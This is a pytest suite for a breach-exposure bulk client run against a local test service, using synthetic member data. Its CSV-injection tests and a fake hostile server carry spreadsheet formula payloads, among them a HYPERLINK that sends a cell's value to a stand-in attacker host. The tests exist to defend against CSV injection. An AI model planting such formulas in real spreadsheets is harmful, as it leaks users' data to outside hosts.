"""`exposure-client` against a real running service.

The service is `exposure-serve` in a subprocess on a free loopback port, serving the
session's synthetic breach index; the client runs in-process through `main()` (or as
its console script when the exit status and message are the point). Connection loss
comes from a small TCP relay in this file that cuts its first connection after a given
number of answer bytes.
"""

from __future__ import annotations

import asyncio
import csv
import os
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import orjson
import pytest
from aiohttp import web
from conftest import Breach, agrees_with_ground_truth

from client.bulk import RESULT_COLUMNS, main
from client.cells import FORMULA_TRIGGERS, neutralise_cell, original_cell
from indexer.core.records import DATA_CLASSES
from service.resources.apikeys import KeyStore

REPO = Path(__file__).resolve().parent.parent
START_TIMEOUT = 60.0
_LISTENING = re.compile(r"exposure-serve: http://[^:]+:(\d+)/")


# --------------------------------------------------------------------------- service


@dataclass
class Served:
    """One `exposure-serve` process; its log file holds no request data."""

    process: subprocess.Popen[bytes]
    port: int
    log: Path

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def get(self, path: str) -> str:
        with urllib.request.urlopen(self.url + path, timeout=10) as answer:
            body: bytes = answer.read()
        return body.decode("utf-8")

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.terminate()
            try:
                self.process.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait(timeout=15)


def start_serve(breach: Breach, workdir: Path, keys_db: Path, *extra: str,
                name: str = "serve") -> Served:
    """Start `exposure-serve --port 0` and wait until it is ready; fail with its log."""
    log = workdir / f"{name}.log"
    with log.open("wb") as stream:
        process = subprocess.Popen(
            [sys.executable, "-m", "service.cli", "--index", str(breach.index_dir),
             "--pepper-file", str(breach.pepper_file), "--keys-db", str(keys_db),
             "--host", "127.0.0.1", "--port", "0", "--index-poll", "60", *extra],
            stdout=stream, stderr=subprocess.STDOUT, cwd=REPO,
        )
    deadline = time.monotonic() + START_TIMEOUT
    port = None
    try:
        while time.monotonic() < deadline:
            if process.poll() is not None:
                break
            if port is None:
                found = _LISTENING.search(log.read_text(errors="replace"))
                port = int(found.group(1)) if found else None
            if port is not None:
                served = Served(process, port, log)
                try:
                    served.get("/readyz")
                    return served
                except OSError:
                    pass
            time.sleep(0.1)
    except BaseException:
        Served(process, 0, log).stop()
        raise
    Served(process, 0, log).stop()
    pytest.fail(f"exposure-serve did not become ready:\n{log.read_text(errors='replace')[-3000:]}")


def metric(text: str, name: str, **labels: str) -> float:
    """The sum of the samples of `name` whose labels include `labels`."""
    total = 0.0
    for line in text.splitlines():
        if not line.startswith(name + "{") and not line.startswith(name + " "):
            continue
        if all(f'{key}="{value}"' in line for key, value in labels.items()):
            total += float(line.rsplit(" ", 1)[1])
    return total


@pytest.fixture(scope="module")
def keys_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("client-keys") / "keys.sqlite"


@pytest.fixture(scope="module")
def service(breach: Breach, keys_db: Path,
            tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    KeyStore(keys_db).close()  # the schema exists before the service opens it
    served = start_serve(breach, tmp_path_factory.mktemp("client-serve"), keys_db,
                         "--anon-rate", "0")
    try:
        yield served
    finally:
        served.stop()


def create_key(keys_db: Path, tmp_path: Path, rate: int = 1_000_000) -> Path:
    """A new API key (taken up by the running service without a restart), in a 0600 file."""
    store = KeyStore(keys_db)
    try:
        _, token = store.create("Test insurer", rate)
    finally:
        store.close()
    path = tmp_path / "api-key"
    path.write_text(token + "\n", encoding="utf-8")
    path.chmod(0o600)
    return path


@pytest.fixture
def key_file(keys_db: Path, tmp_path: Path) -> Path:
    return create_key(keys_db, tmp_path)


# --------------------------------------------------------------------------- relay


@dataclass
class CuttingRelay:
    """A TCP relay to a port that aborts its first connection (RST both ways) once
    `cut_after` bytes have come back from the server. Records what each connection
    uploaded."""

    target: int
    cut_after: int | None = None
    uploads: list[bytearray] = field(default_factory=list)
    _sockets: list[socket.socket] = field(default_factory=list)
    _threads: list[threading.Thread] = field(default_factory=list)

    def __post_init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        self._spawn(self._accept)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def _spawn(self, target: object, *args: object) -> None:
        thread = threading.Thread(target=target, args=args, daemon=True)  # type: ignore[arg-type]
        self._threads.append(thread)
        thread.start()

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self._listener.accept()
            except OSError:
                return
            upstream = socket.create_connection(("127.0.0.1", self.target))
            self._sockets += [client, upstream]
            upload = bytearray()
            cut = self.cut_after if not self.uploads else None
            self.uploads.append(upload)
            self._spawn(self._pump, client, upstream, upload, None)
            self._spawn(self._pump, upstream, client, None, cut)

    def _pump(self, source: socket.socket, sink: socket.socket, record: bytearray | None,
              cut: int | None) -> None:
        sent = 0
        try:
            while data := source.recv(65536):
                if cut is not None and sent + len(data) >= cut:
                    sink.sendall(data[: cut - sent])
                    break
                sink.sendall(data)
                sent += len(data)
                if record is not None:
                    record += data
        except OSError:
            pass
        for sock in (source, sink):
            _abort(sock, reset=cut is not None)

    def close(self) -> None:
        self._listener.close()
        for sock in self._sockets:
            _abort(sock, reset=False)
        for thread in self._threads:
            thread.join(timeout=5)
        for sock in self._sockets:
            sock.close()


def _abort(sock: socket.socket, *, reset: bool) -> None:
    try:
        if reset:  # linger 0: close sends RST, as a dropped network path looks to the peer
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\0\0\0\0\0\0\0")
        sock.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass


# --------------------------------------------------------------------------- helpers


def run_client(capsys: pytest.CaptureFixture[str], members: Path, url: str, out: Path,
               key_file: Path | None, *extra: str) -> tuple[int, str]:
    argv = ["check", str(members), "--url", url, "--out", str(out), *extra]
    if key_file is not None:
        argv += ["--api-key-file", str(key_file)]
    status = main(argv)
    return status, capsys.readouterr().err


def read_results(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        reader = csv.DictReader(stream)
        assert tuple(reader.fieldnames or ()) == RESULT_COLUMNS
        return list(reader)


def assert_results(rows: list[dict[str, str]], refs: list[str],
                   expected: dict[str, dict[str, str]]) -> None:
    """Every member exactly once, in file order, with the generator's verdict."""
    assert [row["ref"] for row in rows] == refs
    for row in rows:
        want = expected[row["ref"]]
        assert row["found"] in ("true", "false", ""), row["ref"]
        assert agrees_with_ground_truth(want, row["found"] == "true", row["match"] or None,
                                        row["sources"], refused=bool(row["error"])), row["ref"]
        exposed = row["exposed"].split("|") if row["exposed"] else []
        assert exposed == [name for name in DATA_CLASSES if name in exposed]
        assert bool(exposed) == (row["found"] == "true")


# --------------------------------------------------------------------------- tests


def test_results_equal_the_expected_verdicts(
    service: Served, breach: Breach, key_file: Path, tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    out = tmp_path / "results.csv"
    status, err = run_client(capsys, breach.dir / "members.csv", service.url, out, key_file)
    assert status == 0, err
    members = breach.members()
    assert_results(read_results(out), [m["ref"] for m in members], breach.expected())
    assert f"{len(members):,} members checked" in err
    # The summary counts each level as RESULTS.csv holds it (similar is not weak).
    rows = read_results(out)
    counts = {level: sum(row["match"] == level for row in rows)
              for level in ("strong", "weak", "similar")}
    assert counts["similar"], "the synthetic member file has similar members"
    assert (f"{counts['strong']:,} strong, {counts['weak']:,} weak, "
            f"{counts['similar']:,} similar (to review)") in err
    assert out.stat().st_mode & 0o077 == 0  # who is in a breach is nobody else's business
    assert not list(tmp_path.glob(".*.part"))
    assert_no_identifier(out, err, members)


def assert_no_identifier(results: Path, messages: str, members: list[dict[str, str]]) -> None:
    """RESULTS.csv holds the caller's ref and a closed vocabulary, nothing else; neither it
    nor the client's messages hold a NIR, a date or a name of any member."""
    refs = {member["ref"] for member in members}
    rest: list[str] = [messages]
    for row in read_results(results):
        assert row["ref"] in refs
        assert row["found"] in ("", "true", "false")
        assert row["match"] in ("", "strong", "weak", "similar")
        assert re.fullmatch(r"[a-z0-9-]*(\|[a-z0-9-]+)*", row["sources"])
        assert set(filter(None, row["exposed"].split("|"))) <= set(DATA_CLASSES)
        assert re.fullmatch(r"([a-z_]+:)?[a-z_]*", row["error"])
        rest += [row[column] for column in RESULT_COLUMNS if column != "ref"]
    text = "\n".join(rest)
    assert not re.search(r"\d{6}", text), "a run of digits (a NIR?)"
    assert not re.search(r"\d{4}-\d\d-\d\d|\d\d[/.-]\d\d[/.-]\d{4}", text), "a date"
    words = set(re.split(r"[^\w'-]+", text.casefold()))
    for member in members:
        for name in ("last_name", "first_name"):
            assert not member[name] or member[name].casefold() not in words


def test_cp1252_comma_english_headers_and_row_errors(
    service: Served, breach: Breach, key_file: Path, tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A Windows export: cp1252, ',' (quoted where needed), CRLF, English headers, an
    extra column that must never be sent, a blank line and two rows the service rejects."""
    expected = dict(breach.expected())
    members = [m for m in breach.members() if _cp1252_ok(m)]
    path = tmp_path / "members-en.csv"
    refs: list[str] = []
    with path.open("w", encoding="cp1252", newline="") as stream:
        writer = csv.writer(stream, delimiter=",", lineterminator="\r\n")
        writer.writerow(["Member ID", "Social Security Number", "Surname", "First name",
                         "Date of birth", "Phone"])
        for i, member in enumerate(members):
            writer.writerow([member["ref"], member["nir"], member["last_name"],
                             member["first_name"], member["birth_date"], f"06{i:08d}"])
            refs.append(member["ref"])
            if i == 10:
                stream.write("\r\n")  # a blank line is no member
        # The reference vector of docs/design.md with a wrong key, and a date in the future.
        writer.writerow(["bad-nir", "295109912611199", "", "", "1995-10-01", "0600000000"])
        writer.writerow(["bad-date", "", "Dupont", "Jean", "01/01/2999", "0600000001"])
    refs += ["bad-nir", "bad-date"]
    relay = CuttingRelay(service.port)  # no cut: it records what was uploaded
    try:
        status, err = run_client(capsys, path, relay.url, tmp_path / "out.csv", key_file)
    finally:
        relay.close()
    assert status == 0, err
    rows = read_results(tmp_path / "out.csv")
    assert [row["ref"] for row in rows] == refs
    assert rows[-2]["error"] == "nir:invalid_checksum"
    assert rows[-1]["error"].startswith("birth_date:")
    assert all(row["found"] == row["match"] == row["sources"] == "" for row in rows[-2:])
    assert_results(rows[:-2], refs[:-2], expected)
    uploaded = b"".join(relay.uploads)
    assert b'"ref":"' + members[0]["ref"].encode() + b'"' in uploaded
    assert b"0600000000" not in uploaded and b"Phone" not in uploaded, "extra column sent"


def _cp1252_ok(member: dict[str, str]) -> bool:
    try:
        ";".join(member.values()).encode("cp1252")
    except UnicodeEncodeError:
        return False
    return True


def test_french_headers_semicolon_utf8_bom_excel_hint(
    service: Served, breach: Breach, key_file: Path, tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    members = breach.members()[:50]
    path = tmp_path / "adherents.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as stream:
        stream.write("sep=;\r\n")  # Excel's delimiter hint
        writer = csv.writer(stream, delimiter=";")
        writer.writerow(["Numéro adhérent", "Date de naissance", "NIR", "Nom", "Prénom"])
        for m in members:
            writer.writerow([m["ref"], m["birth_date"], m["nir"], m["last_name"],
                             m["first_name"]])
    status, err = run_client(capsys, path, service.url, tmp_path / "out.csv", key_file)
    assert status == 0, err
    assert_results(read_results(tmp_path / "out.csv"), [m["ref"] for m in members],
                   breach.expected())


def test_without_an_api_key_exits_2_with_a_clear_message(
    breach: Breach, tmp_path: Path,
) -> None:
    script = Path(sys.executable).with_name("exposure-client")
    command = [str(script)] if script.exists() else [sys.executable, "-m", "client.bulk"]
    env = {k: v for k, v in os.environ.items() if k != "EXPOSURE_API_KEY"}
    out = tmp_path / "results.csv"
    done = subprocess.run(
        [*command, "check", str(breach.dir / "members.csv"), "--url", "http://127.0.0.1:9",
         "--out", str(out)],
        env=env, capture_output=True, text=True, timeout=60, cwd=tmp_path,
    )
    assert done.returncode == 2
    assert "no API key" in done.stderr
    assert "--api-key-file" in done.stderr and "EXPOSURE_API_KEY" in done.stderr
    assert not out.exists()


def test_unknown_key_and_unusable_file_exit_2(
    service: Served, breach: Breach, tmp_path: Path, capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("EXPOSURE_API_KEY", "not-a-key")
    out = tmp_path / "results.csv"
    status, err = run_client(capsys, breach.dir / "members.csv", service.url, out, None)
    assert status == 2 and "refused the API key" in err
    assert not out.exists() and not list(tmp_path.glob(".*.part"))

    no_header = tmp_path / "no-header.csv"
    no_header.write_text("m-1;2 95 10 99 126 111 93;Dupont;Jean;1995-10-01\n", encoding="utf-8")
    status, err = run_client(capsys, no_header, service.url, out, None)
    assert status == 2 and "header line needs a ref column" in err
    assert "126" not in err and "Dupont" not in err  # the first line may be a member


def test_waits_for_retry_after_on_429(
    service: Served, breach: Breach, keys_db: Path, tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # 12 records a minute: one refill every 5 s, so the bucket is still empty when the
    # client starts right after the drain, even on a busy machine.
    key_file = create_key(keys_db, tmp_path, rate=12)
    token = key_file.read_text().strip()
    drain = urllib.request.Request(
        service.url + "/v1/check/batch", data=b'{"ref":"drain"}\n' * 12, method="POST",
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/x-ndjson"},
    )
    with urllib.request.urlopen(drain, timeout=30) as answer:
        assert b'"summary"' in answer.read()
    refused_before = metric(service.get("/metrics"), "exposure_rate_limited_total",
                            route="/v1/check/batch")
    member = next(m for m in breach.members() if m["nir"])
    path = tmp_path / "one.csv"
    path.write_text("ref;nir;birth_date\n" + f"{member['ref']};{member['nir']};"
                    f"{member['birth_date']}\n", encoding="utf-8")
    started = time.monotonic()
    status, err = run_client(capsys, path, service.url, tmp_path / "out.csv", key_file)
    assert status == 0, err
    assert "rate limited" in err
    assert time.monotonic() - started >= 0.9  # it waited for Retry-After (whole seconds)
    refused = metric(service.get("/metrics"), "exposure_rate_limited_total",
                     route="/v1/check/batch")
    assert refused >= refused_before + 1
    rows = read_results(tmp_path / "out.csv")
    want = breach.expected()[member["ref"]]
    assert [(r["ref"], r["found"]) for r in rows] == [(member["ref"], want["in_breach"])]


def test_resumes_from_the_last_answer_after_a_connection_loss(
    service: Served, breach: Breach, key_file: Path, tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    members = breach.members()
    refs = [m["ref"] for m in members]
    relay = CuttingRelay(service.port, cut_after=40_000)  # a few hundred answers in
    try:
        status, err = run_client(capsys, breach.dir / "members.csv", relay.url,
                                 tmp_path / "out.csv", key_file)
    finally:
        relay.close()
    assert status == 0, err
    assert "connection lost" in err
    assert len(relay.uploads) >= 2
    # The second request starts at a member after the first: it resumed, not restarted.
    first_sent = re.search(rb'\{"ref":"([^"]+)"', relay.uploads[1])
    assert first_sent is not None
    resumed_at = refs.index(first_sent.group(1).decode())
    assert 0 < resumed_at < len(refs)
    assert_results(read_results(tmp_path / "out.csv"), refs, breach.expected())


def test_long_files_go_as_several_requests(
    service: Served, breach: Breach, key_file: Path, tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    def batches() -> float:
        return metric(service.get("/metrics"), "exposure_http_requests_total",
                      route="/v1/check/batch", status="200")

    before = batches()
    status, err = run_client(capsys, breach.dir / "members.csv", service.url,
                             tmp_path / "out.csv", key_file, "--max-request-bytes", "4096")
    assert status == 0, err
    members = breach.members()
    assert batches() - before >= 5
    assert_results(read_results(tmp_path / "out.csv"), [m["ref"] for m in members],
                   breach.expected())


# ------------------------------------------------------------------ CSV injection (14/7)


def test_refs_a_spreadsheet_would_run_are_neutralised(
    service: Served, breach: Breach, key_file: Path, tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    # Issue 14 (7): cells starting with = + - @ tab or CR went into RESULTS.csv as they
    # were, and a spreadsheet runs them (OWASP, CSV injection).
    member = next(m for m in breach.members() if m["nir"])
    # (A tab or CR before a ref is blank the reader strips; neutralise_cell covers them.)
    refs = ['=HYPERLINK("http://x.invalid","y")', "+33", "-2", "@SUM(A1)", "plain", "'quoted"]
    assert [neutralise_cell(c) for c in ("\tx", "\rx")] == ["'\tx", "'\rx"]
    path = tmp_path / "members.csv"
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream, delimiter=";")
        writer.writerow(["ref", "nir", "birth_date"])
        writer.writerows([ref, member["nir"], member["birth_date"]] for ref in refs)
    out = tmp_path / "out.csv"
    status, err = run_client(capsys, path, service.url, out, key_file)
    assert status == 0, err
    rows = read_results(out)
    assert [row["ref"] for row in rows] == [
        "'" + ref if ref[0] in "=+-@\t\r" else ref for ref in refs]
    for row in rows:
        assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row.values())
    assert [original_cell(row["ref"]) for row in rows] == refs


class HostileService:
    """An HTTP server that answers every bulk line with what it is told to."""

    def __init__(self, answer: dict[str, object]) -> None:
        self.answer = answer
        self.loop = asyncio.new_event_loop()
        self.port = 0
        started = threading.Event()
        self.thread = threading.Thread(target=self._run, args=(started,), daemon=True)
        self.thread.start()
        assert started.wait(30)

    def _run(self, started: threading.Event) -> None:
        asyncio.set_event_loop(self.loop)

        async def batch(request: web.Request) -> web.Response:
            lines = [line for line in (await request.read()).split(b"\n") if line.strip()]
            body = b"".join(orjson.dumps({"line": i, "ref": None, **self.answer}) + b"\n"
                            for i in range(1, len(lines) + 1))
            body += orjson.dumps({"summary": {"lines": len(lines), "found": 0,
                                              "errors": 0}}) + b"\n"
            return web.Response(body=body, content_type="application/x-ndjson")

        app = web.Application()
        app.router.add_post("/v1/check/batch", batch)
        self.runner = web.AppRunner(app)
        self.loop.run_until_complete(self.runner.setup())
        site = web.TCPSite(self.runner, "127.0.0.1", 0)
        self.loop.run_until_complete(site.start())
        self.port = site._server.sockets[0].getsockname()[1]  # type: ignore[union-attr]
        started.set()
        self.loop.run_forever()

    def stop(self) -> None:
        asyncio.run_coroutine_threadsafe(self.runner.cleanup(), self.loop).result(30)
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(30)
        self.loop.close()


_FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"Details")'


@pytest.mark.parametrize("answer", [
    {"found": True, "match": _FORMULA, "sources": []},
    {"found": True, "match": "strong", "sources": [{"id": _FORMULA, "exposed": ["nir"]}]},
    {"found": True, "match": "strong", "sources": [{"id": "a-2024", "exposed": [_FORMULA]}]},
    {"error": {"field": None, "code": _FORMULA, "message": "x"}},
    {"error": {"field": _FORMULA, "code": "invalid_nir", "message": "x"}},
    {"found": False, "match": _FORMULA, "sources": []},
], ids=["match", "source", "exposed", "code", "field", "not-found-match"])
def test_values_outside_the_vocabulary_from_a_hostile_server_are_refused(
    breach: Breach, tmp_path: Path, capsys: pytest.CaptureFixture[str],
    answer: dict[str, object],
) -> None:
    member = next(m for m in breach.members() if m["nir"])
    path = tmp_path / "members.csv"
    path.write_text(f"ref;nir;birth_date\nm-1;{member['nir']};{member['birth_date']}\n",
                    encoding="utf-8")
    key = tmp_path / "key"
    key.write_text("exk_anything")
    hostile = HostileService(answer)
    try:
        out = tmp_path / "out.csv"
        status, err = run_client(capsys, path, f"http://127.0.0.1:{hostile.port}", out, key)
    finally:
        hostile.stop()
    assert status != 0
    assert "vocabulary" in err
    assert "HYPERLINK" not in err
    assert not out.exists() or "HYPERLINK" not in out.read_text(encoding="utf-8")
